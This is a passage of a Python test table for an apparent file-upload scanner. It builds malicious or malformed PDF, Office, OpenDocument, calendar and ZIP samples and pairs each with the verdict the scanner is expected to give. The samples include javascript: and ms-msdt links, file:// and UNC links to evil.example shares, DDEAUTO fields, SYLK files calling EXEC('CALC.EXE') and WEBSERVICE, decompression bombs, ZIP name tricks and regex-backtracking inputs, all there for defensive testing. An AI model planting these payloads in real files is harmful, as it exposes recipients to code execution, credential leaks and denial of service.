    "ICS with a picture from elsewhere": (
        "a.ics",
        lambda: b"BEGIN:VCALENDAR\r\nIMAGE;VALUE=URI:https://evil.example/x.png\r\nEND:VCALENDAR\r\n",
        ACTIVE,
    ),
    "DOCX packed in a way that can't be stopped": ("a.docx", lambda: packed(DOCX, zipfile.ZIP_BZIP2), CONTENTS),
    "ZIP packed in a way that can't be stopped": ("a.zip", lambda: packed({"a.txt": "x"}, zipfile.ZIP_LZMA), CONTENTS),
    "DOCX that holds more than it says": ("a.docx", lying, CONTENTS),
    "DOCX with a field in a million pieces": ("a.docx", lambda: fields(*["aaaaaaaaaa"] * 280_000), ""),
    "DOCX nested without end": ("a.docx", lambda: docx({"word/a.xml": "<w>" * 5000 + "</w>" * 5000}), CONTENTS),
    "DOCX with an add-in": (
        "a.docx",
        lambda: docx(
            {"_rels/a.rels": RELATION.format(type="webextension", to="x.xml").replace("External", "Internal")}
        ),
        ACTIVE,
    ),
    "ODT with an empty part, as OpenOffice writes it": (
        "a.odt",
        lambda: odt(**{"Configurations2/accelerator/current.xml": ""}),
        "",
    ),
    "PDF with a link to a program": ("a.pdf", lambda: linked(lambda _: pikepdf.String("javascript:__ran(1)")), ACTIVE),
    "PDF with such a link in numbers": (
        "a.pdf",
        lambda: linked(lambda _: pikepdf.String("java\tscript:__ran(1)//\x01")),
        ACTIVE,
    ),
    "PDF with such a link as its own object": (
        "a.pdf",
        lambda: linked(lambda document: document.make_indirect(pikepdf.String("file://evil.example/x"))),
        ACTIVE,
    ),
    "PDF with a link": ("a.pdf", lambda: linked(lambda _: pikepdf.String("https://a.example/data:x")), ""),
    "PDF with a link to a mailbox": ("a.pdf", lambda: linked(lambda _: pikepdf.String("MailTo:camat@kota.go.id")), ""),
    "PDF with a link to a telephone": ("a.pdf", lambda: linked(lambda _: pikepdf.String("tel:+62335421234")), ""),
    "PDF with a link to a place": ("a.pdf", lambda: linked(lambda _: pikepdf.String("geo:-7.75,113.21")), ""),
    "PDF with a link to a part": ("a.pdf", lambda: linked(lambda _: pikepdf.String("#bagian-2")), ""),
    "PDF with a link beside it": ("a.pdf", lambda: linked(lambda _: pikepdf.String("lampiran/b.pdf?a=1:2")), ""),
    "PDF with a link without a scheme": ("a.pdf", lambda: linked(lambda _: pikepdf.String("www.kota.go.id")), ""),
    **{
        f"PDF with a link to {address}": ("a.pdf", lambda to=address: linked(lambda _: pikepdf.String(to)), ACTIVE)
        for address in ASTRAY
    },
    "PDF whose catalog is no object": ("a.pdf", lambda: unlisted(b""), ""),
    "PDF with JavaScript among the names of such a catalog": (
        "a.pdf",
        lambda: unlisted(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"),
        ACTIVE,
    ),
    "PDF with JavaScript as it is closed, in such a catalog": (
        "a.pdf",
        lambda: unlisted(b"/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>"),
        ACTIVE,
    ),
    "PDF with a link to a program in such a catalog": (
        "a.pdf",
        lambda: unlisted(b"/X << /S /URI /URI (shell:x) >>"),
        ACTIVE,
    ),
    "PDF that asks after it has opened": ("a.pdf", lambda: pdf(led), ACTIVE),
    "PDF with a name that is no UTF-8": (
        "a.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/X", document.make_stream(b"x", Yz=1))).replace(
            b"/Yz", b"/Y\xba"
        ),
        "",
    ),
    "PDF with such a name beside a link": (
        "a.pdf",
        lambda: linked(lambda _: pikepdf.String("https://a.example/")).replace(b"/Annot ", b"/Anno\xba "),
        "",
    ),
    "PDF with an array of 22 million numbers": (
        "a.pdf",
        lambda: bursting(repeated(b"1 ", 22_000_000, (b"4 0 [", b"]"))),
        BOMB,
    ),
    "DOCX of millions of elements": (
        "a.docx",
        lambda: docx({f"word/a{number}.xml": "<x>" + "<a/>" * 2_490_000 + "</x>" for number in range(6)}),
        BOMB,
    ),
    "DOCX of millions of elements, packed badly": (
        "a.docx",
        lambda: docx({f"word/a{number}.xml": elements(number, 600_000) for number in range(6)}),
        BOMB,
    ),
    "ZIP of documents that are too much together": (
        "a.zip",
        lambda: packed({f"{number}.docx": docx({"word/a.xml": elements(number, 600_000)}) for number in range(6)}),
        BOMB,
    ),
    "ZIP of a thousand PDFs": ("a.zip", lambda: packed({f"{number}.pdf": pdf() for number in range(1000)}), BOMB),
    "PDF with a file in a note": ("a.pdf", lambda: pdf(noted), ACTIVE),
    "PDF with a file that belongs to it": ("a.pdf", lambda: pdf(belonging), ACTIVE),
    "PDF that is a collection": ("a.pdf", lambda: pdf(collected), ACTIVE),
    "PDF that shows a page of another file": ("a.pdf", lambda: pdf(borrowing), ACTIVE),
    "PDF with a picture in another file (OPI)": (
        "a.pdf",
        lambda: pdf(lambda document: borrowing(document, **{"/OPI": pikepdf.Dictionary()})),
        ACTIVE,
    ),
    "PDF that goes to a thread of another file": (
        "a.pdf",
        lambda: pdf(lambda document: threading(document, F="//evil.example/x.pdf")),
        ACTIVE,
    ),
    "PDF that goes to a thread of its own": ("a.pdf", lambda: pdf(threading), ""),
    "PDF with names that begin as those of harm do": (
        "a.pdf",
        lambda: pdf(lambda document: borrowing(document, **{"/EF1": pikepdf.Name("/AFoo"), "/Ref": pikepdf.Array()})),
        "",
    ),
    "DOCX with a link to a program": ("a.docx", lambda: fields('HYPERLINK "ms-msdt:/id x"'), ACTIVE),
    "DOCX with a link to a share in a field": ("a.docx", lambda: fields('HYPERLINK "file://evil.example/x"'), ACTIVE),
    "DOCX with a link to a share, bare": ("a.docx", lambda: fields("HYPERLINK \\\\\\\\evil.example\\\\x"), ACTIVE),
    "DOCX with a link to a script": ("a.docx", lambda: fields('HYPERLINK \\o "https://a" "javascript:x"'), ACTIVE),
    "DOCX with a link behind what seems a switch": (
        "a.docx",
        lambda: fields('HYPERLINK "\\l" "file://evil.example/x"'),
        ACTIVE,
    ),
    "DOCX with a link that another field makes": ("a.docx", lambda: fields("HYPERLINK "), ACTIVE),
    "DOCX with a link to a heading": ("a.docx", lambda: fields(' HYPERLINK \\l "_Toc1" \\* MERGEFORMAT '), ""),
    "XLSX with a link to a share": ("a.xlsx", lambda: book('HYPERLINK("\\\\evil.example\\x","y")'), ACTIVE),
    "XLSX with a link to a file": ("a.xlsx", lambda: book('IF(A1,HYPERLINK(B1),"file://evil.example/x")'), ACTIVE),
    "XLSX with a link in pieces": ("a.xlsx", lambda: book('HYPERLINK(A1)&amp;HYPERLINK("fi"&amp;B1)'), ACTIVE),
    "XLSX with links to the web and to a sheet": (
        "a.xlsx",
        lambda: book('HYPERLINK("https://a.example/","Lihat: a")&amp;HYPERLINK("#A!B1")'),
        "",
    ),
    "ODS with a link to a share": (
        "a.ods",
        lambda: odt(
            "application/vnd.oasis.opendocument.spreadsheet",
            **{"a.xml": "<x formula='of:=HYPERLINK(&quot;file://evil.example/x&quot;)'/>"},
        ),
        ACTIVE,
    ),
    "ZIP with a file between its members": (
        "a.zip",
        lambda: hiding(packed({"x.exe": "MZ"}).split(b"PK\1\2", 1)[0]),
        CONTENTS,
    ),
    "ZIP with a page between its members": ("a.zip", lambda: hiding(HTML), CONTENTS),
    "ZIP whose files are called otherwise where they lie": (
        "a.zip",
        lambda: packed({"a.md": "x"}).replace(b"a.md", b"a.js", 1),
        CONTENTS,
    ),
    "ZIP that is written as it is read": ("a.zip", streamed, ""),
    "ZIP with two directories": (
        "a.zip",
        lambda: doubled({"surat.txt": "x"}, {"surat.exe": b"MZ"}),
        CONTENTS,
    ),
    "DOCX with two directories": (
        "a.docx",
        lambda: doubled({**DOCX}, {**DOCX, "word/vbaProject.bin": b"MZ"}),
        CONTENTS,
    ),
    "ZIP with a word on a file": ("a.zip", lambda: commented(member=packed({"x.exe": b"MZ"})), CONTENTS),
    "ZIP with a word on all": ("a.zip", lambda: commented(whole=packed({"x.exe": b"MZ"})), CONTENTS),
    "ZIP with a program behind a file": ("a.zip", padded, CONTENTS),
    "ZIP whose last record tells of fewer files": (
        "a.zip",
        lambda: (data := packed({"a.txt": "x", "b.txt": "y"}))[:-14] + struct.pack("<HH", 1, 1) + data[-10:],
        CONTENTS,
    ),
    "ZIP whose directory is told to be elsewhere": (
        "a.zip",
        lambda: (data := packed({"a.txt": "x"}))[:-6] + struct.pack("<I", 4) + data[-2:],
        CONTENTS,
    ),
    "ZIP with two names in one": (
        "a.zip",
        lambda: packed({"surat.txt-.exe": "x"}).replace(b"surat.txt-", b"surat.txt\0"),
        ACTIVE,
    ),
    "ZIP with a second name for a program": ("a.zip", lambda: called_again("a.exe"), ACTIVE),
    "ZIP with a second name for a text": ("a.zip", lambda: called_again("\u00e1.txt"), ""),
    "ZIP with a device": ("a.zip", lambda: packed({"CON.txt": "x"}), ACTIVE),
    "ZIP with a folder that is a device": ("a.zip", lambda: packed({"aux/b.txt": "x"}), ACTIVE),
    "ZIP with a stream of a file": ("a.zip", lambda: packed({"a.txt:b.txt": "x"}), ACTIVE),
    "ZIP with a name that turns round": ("a.zip", lambda: packed({"a\u202efdp.txt": "x"}), ACTIVE),
    "ZIP with a folder that ends in a space": ("a.zip", lambda: packed({"a /b.txt": "x"}), ACTIVE),
    "ZIP with a folder that ends in a dot": ("a.zip", lambda: packed({"a./b.txt": "x"}), ACTIVE),
    "ZIP with a name that no disk takes": ("a.zip", lambda: packed({"x" * 300 + ".txt": "x"}), ACTIVE),
    "ZIP with names that look the same": ("a.zip", lambda: packed({"e\u0301.txt": "x", "\u00e9.txt": "y"}), ACTIVE),
    "ZIP with a file and a folder of one name": (
        "a.zip",
        lambda: packed({"a.txt": "x", "a.txt/b.txt": "y"}),
        ACTIVE,
    ),
    "ZIP with a program named GIF": ("a.zip", lambda: packed({"a.gif": b"MZ\x90\0"}), CONTENTS),
    "ZIP with a program named MP4": ("a.zip", lambda: packed({"a.mp4": b"MZ\x90\0"}), CONTENTS),
    "ZIP with a program named HEIC": ("a.zip", lambda: packed({"a.heic": b"MZ\x90\0"}), CONTENTS),
    "ZIP with a page named MP3": ("a.zip", lambda: packed({"a.mp3": HTML}), CONTENTS),
    "ZIP with a page named WebP": ("a.zip", lambda: packed({"a.webp": HTML}), CONTENTS),
    "ZIP with a page named Markdown": ("a.zip", lambda: packed({"a.md": HTML}), CONTENTS),
    "ZIP with a program named JSON": ("a.zip", lambda: packed({"a.json": b"MZ\x90"}), CONTENTS),
    "ZIP of everything that may be packed": (
        "a.zip",
        lambda: packed(
            {
                "Rapat RT 5/a.gif": picture("GIF"),
                "Rapat RT 5/b.webp": picture("WEBP"),
                "Rapat RT 5/c.mp4": b"\0\0\0\x18ftypmp42",
                "Rapat RT 5/d.mp3": b"ID3\4",
                "Rapat RT 5/e.md": "# Judul\n",
                "Rapat RT 5/f.geojson": "{}",
                "Rapat RT 5/g (1).JPG": picture("JPEG"),
                "Rapat RT 5/": "",
            }
        ),
        "",
    ),
    "ZIP with a JPEG that tells where": ("a.zip", lambda: packed({"a.jpg": photo("JPEG")}), LOCATION),
    "ZIP with a PNG that tells where": ("a.zip", lambda: packed({"a.png": photo("PNG")}), LOCATION),
    "ZIP with a WebP that tells where": ("a.zip", lambda: packed({"a.webp": photo("WEBP")}), LOCATION),
    "ZIP with a HEIC that tells where": (
        "a.zip",
        lambda: packed({"a.heic": camera.heic(Image.new("RGB", (64, 64)))}),
        LOCATION,
    ),
    "ZIP with a PNG whose text tells where": ("a.zip", lambda: packed({"a.png": described()}), LOCATION),
    "DOCX with a photo that tells where": ("a.docx", lambda: docx({"word/media/a.jpeg": photo("JPEG")}), LOCATION),
    "DOCX with a TIFF that tells where": ("a.docx", lambda: docx({"word/media/a.tiff": noticed()}), LOCATION),
    "ODT with a photo that tells where": ("a.odt", lambda: odt(**{"Pictures/a.jpg": photo("JPEG")}), LOCATION),
    "ZIP with a DOCX with such a photo": (
        "a.zip",
        lambda: packed({"a.docx": docx({"word/media/a.jpeg": photo("JPEG")})}),
        LOCATION,
    ),
    "ZIP with a photo that tells where, and a program": (
        "a.zip",
        lambda: packed({"a.jpg": photo("JPEG"), "b.pdf": b"MZ"}),
        CONTENTS,
    ),
    "ZIP with photos that tell no place": (
        "a.zip",
        lambda: packed({"a.jpg": photo("JPEG", placeless()), "b.jpg": photo("JPEG", Image.Exif())}),
        "",
    ),
    "CSV with numbers of identity": ("a.csv", lambda: f"No,Nama,NIK\r\n1,Budi,{NIK}\r\n".encode(), PERSONAL),
    "CSV with such numbers beside others": ("a.csv", lambda: f"No,NIK,RT\r\n1,{NIK},2\r\n".encode(), PERSONAL),
    "CSV of semicolons with such numbers": ("a.csv", lambda: f"No;NIK\r\n1;{NIK}\r\n".encode(), PERSONAL),
    "CSV with such numbers after an apostrophe": ("a.csv", lambda: f"No,NIK\r\n1,'{NIK}\r\n".encode(), PERSONAL),
    "text with such a number, parted": ("a.txt", lambda: b"NIK 3574 0145 0190 0001", PERSONAL),
    "ICS with such a number, folded": (
        "a.ics",
        lambda: f"BEGIN:VCALENDAR\r\nDESCRIPTION:NIK {NIK[:7]}\r\n {NIK[7:]}\r\n".encode(),
        PERSONAL,
    ),
    "ZIP with a table with such numbers": ("a.zip", lambda: packed({"a.csv": f"NIK\n{NIK}\n"}), PERSONAL),
    "text with such a number, in wide figures": (
        "a.txt",
        lambda: "NIK ３５７４０１４５０１９００００１".encode(),
        PERSONAL,
    ),
    "CSV with such a number, parted by spaces that don't break": (
        "a.csv",
        lambda: "No,NIK\n1,3574\u00a00145\u00a00190\u00a00001\n".encode(),
        PERSONAL,
    ),
    "text of other signs (time)": ("a.txt", lambda: ("\u00a0" * 8_000_000).encode(), ""),
    "CSV with other long numbers": (
        "a.csv",
        lambda: f"a,b\n0.{NIK},112.6213550190000{NIK}\n0.3333333333333333,1763712000000000\n".encode(),
        "",
    ),
    "CSV with long fractions after a comma": ("a.csv", lambda: f"a;b\n0,{NIK};1\n".encode(), ""),
    "CSV of long numbers (time)": ("a.csv", lambda: b"1763712000000000,2026-01-01 2026 2026 2026\n" * 500_000, ""),
    "DOCX with a field of spaces (backtracking)": ("a.docx", lambda: fields(" " * 200_000 + "x"), ""),
    "DOCX with simple fields of spaces (backtracking)": (
        "a.docx",
        lambda: docx({"word/document.xml": "<w>" + f'<fldSimple instr="{" " * 20_000}x"/>' * 20 + "</w>"}),
        "",
    ),
    "DOCX with links of spaces (backtracking)": (
        "a.docx",
        lambda: fields(" " * 100_000 + "\\" + " " * 100_000 + "HYPERLIN"),
        "",
    ),
    "DOCX with a field within another, again and again (time)": (
        "a.docx",
        lambda: docx({"word/a.xml": "<w>" + '<fldChar fldCharType="begin"/><t>IF </t>' * 200_000 + "</w>"}),
        "",
    ),
    "DOCX with a field whose kind another says": ("a.docx", lambda: nested("", "SET x", "DDEAUTO", " c:\\x"), ACTIVE),
    "DOCX with a field whose kind another looks up": ("a.docx", lambda: nested(" ", "REF x", "", " c:\\x"), ACTIVE),
    "DOCX with a field whose kind another ends": ("a.docx", lambda: nested(" dd", "REF x", "", " c:\\x"), ACTIVE),
    "DOCX with a field whose code is text": (
        "a.docx",
        lambda: docx({"word/document.xml": '<w><fldChar fldCharType="begin"/><t>DDEAUTO</t><r><tab/></r><t>c</t></w>'}),
        ACTIVE,
    ),
    "DOCX with a field whose code is in quotes": (
        "a.docx",
        lambda: fields('"INCLUDEPICTURE" "http://e.example"'),
        ACTIVE,
    ),
    "DOCX with a field within a choice": ("a.docx", lambda: fields('IF 1 = 1 "DDEAUTO x"'), ACTIVE),
    "DOCX with a button for a macro": ("a.docx", lambda: fields("MACROBUTTON x y"), ACTIVE),
    "DOCX with plain fields within another": ("a.docx", lambda: nested("IF ", "PAGE", "1", ' = 1 "a" "b"'), ""),
    "DOCX with a sum of fields": ("a.docx", lambda: nested("=", "PAGE", "1", " - 1"), ""),
    "DOCX with a keyword": ("a.docx", lambda: fields(' XE "Database" '), ""),
    "DOCX with a text about fields": ("a.docx", lambda: docx({"word/document.xml": "<w><t>DDEAUTO c:</t></w>"}), ""),
    "DOCX with a field that shows such a text": (
        "a.docx",
        lambda: docx(
            {
                "word/document.xml": '<w><fldChar fldCharType="begin"/><instrText>PAGE</instrText>'
                '<fldChar fldCharType="separate"/><t>DDE LINK</t><fldChar fldCharType="end"/></w>'
            }
        ),
        "",
    ),
    "DOCX with a header named TXT": (
        "a.docx",
        lambda: typed(f'<Override PartName="/word/header1.txt" ContentType="{HEADER}"/>', "word/header1.txt"),
        ACTIVE,
    ),
    "DOCX with headers named PNG": (
        "a.docx",
        lambda: typed(f'<Default Extension="png" ContentType="{HEADER.upper()} ; a=b"/>', "word/header1.png"),
        ACTIVE,
    ),
    "DOCX whose text is related to as another kind": ("a.docx", lambda: related("officeDocument", "main.txt"), ACTIVE),
    "DOCX with parts as they are declared": (
        "a.docx",
        lambda: docx(
            {
                "[Content_Types].xml": TYPES.replace(
                    "</Types>",
                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                    '<Default Extension="xml" ContentType="application/xml"/>'
                    '<Default Extension="png" ContentType="image/png"/>'
                    f'<Override PartName="/word/header1.xml" ContentType="{HEADER}"/></Types>',
                ),
                "word/header1.xml": "<x/>",
                "word/_rels/document.xml.rels": "<Relationships>"
                '<Relationship Type="http://a/image" Target="media/a.png"/>'
                '<Relationship Type="http://a/header" Target="/word/header1.xml"/></Relationships>',
            }
        ),
        "",
    ),
    "DOCX with a picture of a share, not said to be outside": (
        "a.docx",
        lambda: related("image", "//evil.example/x.png"),
        ACTIVE,
    ),
    "DOCX with a stroke from elsewhere": ("a.docx", lambda: vml('<stroke src="http://e.example/x"/>'), ACTIVE),
    "DOCX with a border from elsewhere": ("a.docx", lambda: vml('<left src="http://e.example/x"/>'), ACTIVE),
    "DOCX with a second picture from elsewhere": (
        "a.docx",
        lambda: vml('<imagedata o:althref="http://e.example/x"/>'),
        ACTIVE,
    ),
    "DOCX with an address beside the one that is read": (
        "a.docx",
        lambda: vml('<imagedata src="http://e.example/x" n:src="a"/>'),
        ACTIVE,
    ),
    "DOCX with a shape that is a link": ("a.docx", lambda: vml('<shape href="https://a.example/" o:title="a"/>'), ""),
    "XLSX with a quote in a sheet's name": ("a.xlsx", lambda: sheet(f"<f>'a\"'!A1&amp;{WEB}</f>"), ACTIVE),
    "XLSX with apostrophes in columns' names": (
        "a.xlsx",
        lambda: sheet(f"<f>T['#a]&amp;{WEB}&amp;T['#b]</f>"),
        ACTIVE,
    ),
    "XLSX that asks the web in its look": ("a.xlsx", lambda: sheet(f"<formula>{WEB}</formula>"), ACTIVE),
    "XLSX that asks the web in a column": (
        "a.xlsx",
        lambda: sheet(f"<calculatedColumnFormula>{WEB}</calculatedColumnFormula>"),
        ACTIVE,
    ),
    "XLSX that asks the web in a name": ("a.xlsx", lambda: sheet(f"<definedName>{WEB}</definedName>"), ACTIVE),
    "XLSX with a book of a share": (
        "a.xlsx",
        lambda: sheet("<f>'\\\\evil.example\\x\\[a.xlsx]S'!A1</f>"),
        ACTIVE,
    ),
    "XLSX with a book of the web": ("a.xlsx", lambda: sheet("<f>'http://e.example/[a.xlsx]S'!A1</f>"), ACTIVE),
    "XLSX that asks a database": ("a.xlsx", lambda: sheet('<f>SQL.REQUEST("a")</f>'), ACTIVE),
    "XLSX with a link behind a quote in a sheet's name": (
        "a.xlsx",
        lambda: sheet('<f>\'a"\'!A1&amp;IF(1,HYPERLINK(B1),"file://e.example")</f>'),
        ACTIVE,
    ),
    "XLSX of brackets and quotes (backtracking)": (
        "a.xlsx",
        lambda: sheet(
            f"<f>{'[' * 100_000}</f><f>{'|' * 100_000}//'</f><f>{chr(39) * 99_999}/</f><f>{'[a:/' * 50_000}</f>"
        ),
        ACTIVE,
    ),
    "XLSX with formulas as people write them": (
        "a.xlsx",
        lambda: sheet(
            "<f>'Jan 2026'!A1/2&amp;\"a/b's DDE(\"</f><f>SUM(T[[#All],[Jumlah/Hari]])/T['# Warga]/T['# KK]</f>"
            "<formula>$A1&gt;1</formula><definedName>'Data 1:Data 2'!$A$1</definedName><f>[1]S!A1</f>"
        ),
        "",
    ),
    "ODS with a quote in a sheet's name": (
        "a.ods",
        lambda: table(f"<c formula=\"of:=[.$'a&quot;'.A1]&amp;{WEB_Q}\"/>"),
        ACTIVE,
    ),
    "ODS that asks the web in a name": ("a.ods", lambda: table(f'<named-expression expression="{WEB_Q}"/>'), ACTIVE),
    "ODS that asks the web in a condition": (
        "a.ods",
        lambda: table(f'<content-validation condition="of:is-true-formula({WEB_Q})"/>'),
        ACTIVE,
    ),
    "ODS with a book of the web": (
        "a.ods",
        lambda: table("<c formula=\"of:=['http://e.example/a.ods'#$S.A1]\"/>"),
        ACTIVE,
    ),
    "ODS of brackets (backtracking)": (
        "a.ods",
        lambda: table(
            "".join(f'<c formula="{each * 50_000}DDE"/>' for each in ("[", "[a:/", "['", "[.$'a'")) + "<c formula='|'/>"
        ),
        ACTIVE,
    ),
    "ODS with formulas as people write them": (
        "a.ods",
        lambda: table(
            "<c formula=\"of:=SUM([.A1:.B2])/[$'Data 1'.C1]&amp;[.#REF!]&amp;&quot;a/b&quot;\"/>"
            '<content-validation condition="of:cell-content-is-in-list(&quot;a&quot;;&quot;b/c&quot;)"/>'
            '<chart href=".."/>'
        ),
        "",
    ),
    "ODT with a bullet from elsewhere": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><list-level-style-image href="https://e.example/x"/></x>'}),
        ACTIVE,
    ),
    "ODT with a symbol from elsewhere": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><symbol-image href="https://e.example/x"/></x>'}),
        ACTIVE,
    ),
    "ODT with a link that is followed as it loads": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><a href="https://e.example/x" actuate="onLoad"/></x>'}),
        ACTIVE,
    ),
    "ODT with a picture of its own": (
        "a.odt",
        lambda: odt(**{"a.xml": '<x><image href="Pictures/a.png" actuate="onLoad" show="embed"/></x>'}),
        "",
    ),
    "ICS with a link to a script": ("a.ics", lambda: calendar("URL:javascript:__ran(1)"), ACTIVE),
    "ICS with a link to a script, with a tab": ("a.ics", lambda: calendar("URL:java\tscript:__ran(1)"), ACTIVE),
    "ICS with a link to a share": ("a.ics", lambda: calendar("URL;VALUE=URI:file://evil.example/x"), ACTIVE),
    "ICS with a link to a share, in backslashes": ("a.ics", lambda: calendar("URL:\\\\evil.example\\x"), ACTIVE),
    "ICS with a link behind a quote that doesn't end": (
        "a.ics",
        lambda: calendar('URL;X="a:file://evil.example/x'),
        ACTIVE,
    ),
    "ICS with a meeting of a program": ("a.ics", lambda: calendar('CONFERENCE;X="a:b":ms-msdt:/id x'), ACTIVE),
    "ICS with a source of a share": ("a.ics", lambda: calendar("SOURCE;VALUE=URI:file://evil.example/x"), ACTIVE),
    "ICS with a file in a group": ("a.ics", lambda: calendar("item.ATTACH:file://evil.example/x"), ACTIVE),
    "ICS with an alarm that sounds": ("a.ics", lambda: calendar("ACTION:AUDIO"), ACTIVE),
    "ICS with an alarm that sounds what it loads": (
        "a.ics",
        lambda: calendar("ACTION:DISPLAY", "ATTACH;VALUE=URI:http://evil.example/x"),
        ACTIVE,
    ),
    "ICS with an alarm that writes": ("a.ics", lambda: calendar("ACTION;X=DISPLAY:EMAIL"), ACTIVE),
    "ICS with a file behind a line's end of another kind": (
        "a.ics",
        lambda: calendar("DESCRIPTION:a\u2028ATTACH:file://evil.example/x"),
        ACTIVE,
    ),
    "ICS with a file behind an empty line, folded": (
        "a.ics",
        lambda: calendar("", " ATTACH:file://evil.example/x"),
        ACTIVE,
    ),
    "ICS as programs write it": (
        "a.ics",
        lambda: calendar(
            "SOURCE;VALUE=URI:https://a.example/a.ics",
            'URL;X="a:b":https://a.example/',
            "TZURL:http://a.example/",
            "CONFERENCE;VALUE=URI:tel:+62-341-1",
            "URL:www.a.example/x",
            "URL:",
            "DESCRIPTION:Bawa",
            "  ATTACH: surat\\, URL:x",
            "ACTION:DISPLAY",
            "ACTION:NONE",
        ),
        "",
    ),
    "ICS of long lines (backtracking)": (
        "a.ics",
        lambda: calendar(*(each * 100_000 for each in ("a-", "URL;", 'URL;""', "URL:a,", "a.", "URL: ,", "\t"))),
        "",
    ),
    "SYLK named CSV": ("a.csv", lambda: b'ID;PWXL;N;E\nC;Y1;X1;K0;EWEBSERVICE("http://e.example/")\nE\n', CONTENTS),
    "SYLK named TXT": ("a.txt", lambda: b'ID;P\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("CALC.EXE")\nE\n', CONTENTS),
    "MHTML named CSV": ("a.csv", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>", CONTENTS),
    "CSV with a column that is called so": ("a.csv", lambda: b"ID,Nama\n1,a\n", ""),
    "PDF with a body that runs a program": ("a.pdf", lambda: pdf(solid), ACTIVE),
    "PDF with a file of the web": ("a.pdf", lambda: pdf(of_the_web), ACTIVE),
}
